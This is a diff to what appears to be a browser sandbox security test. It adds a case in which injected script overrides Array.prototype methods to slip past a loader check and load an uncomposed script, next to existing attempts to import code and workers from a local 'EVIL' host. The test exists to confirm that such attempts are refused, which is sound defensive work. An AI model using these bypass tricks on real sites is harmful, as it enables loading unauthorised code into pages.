@@ -18,6 +18,7 @@ const ATTEMPTS = `{
   'an import': () => import(/* webpackIgnore: true */ EVIL + '/import.js'),
   'an import of text': () => import(/* webpackIgnore: true */ 'data:text/javascript,export default 1'),
   'a file of this site that is not composed': () => new Promise((yes, no) => { const s = document.createElement('script'); s.src = '/api/site'; s.onload = yes; s.onerror = no; document.head.append(s); }),
+  'CMP-310 the same, with functions of the language replaced': () => new Promise((yes, no) => { const { find, some } = Array.prototype; Array.prototype.find = () => ({ base: '', checked: false }); Array.prototype.some = () => true; const s = document.createElement('script'); s.onload = yes; s.onerror = no; try { s.src = OTHER; document.head.append(s); } finally { Object.assign(Array.prototype, { find, some }); } }),
   'a worker': () => new Worker(EVIL + '/worker.js'),
   'a worker from text': () => new Worker(URL.createObjectURL(new Blob(['1']))),
   'a service worker': () => navigator.serviceWorker.register('/_r/worker.js'),
@@ -47,7 +48,9 @@ beforeAll(async () => {
   }).listen(0, '127.0.0.1');
   await new Promise((resolve) => elsewhere.once('listening', resolve));
   const { port } = elsewhere.address() as AddressInfo;
-  const attack = `;(() => { const EVIL = 'http://127.0.0.1:${port}'; const tried = window.__tried = {}; const attempts = ${ATTEMPTS};
+  const other = await publishVariant('mf-careers', (script) => `${script};`);
+  const notComposed = `/_r/mf-careers/${other.version}/${other.entry[0] ?? ''}`;
+  const attack = `;(() => { const EVIL = 'http://127.0.0.1:${port}'; const OTHER = '${notComposed}'; const tried = window.__tried = {}; const attempts = ${ATTEMPTS};
     (async () => { for (const [name, attempt] of Object.entries(attempts)) {
       try { await attempt(); tried[name] = 'worked'; } catch { tried[name] = 'refused'; } }
       window.__done = true; })(); })();`;
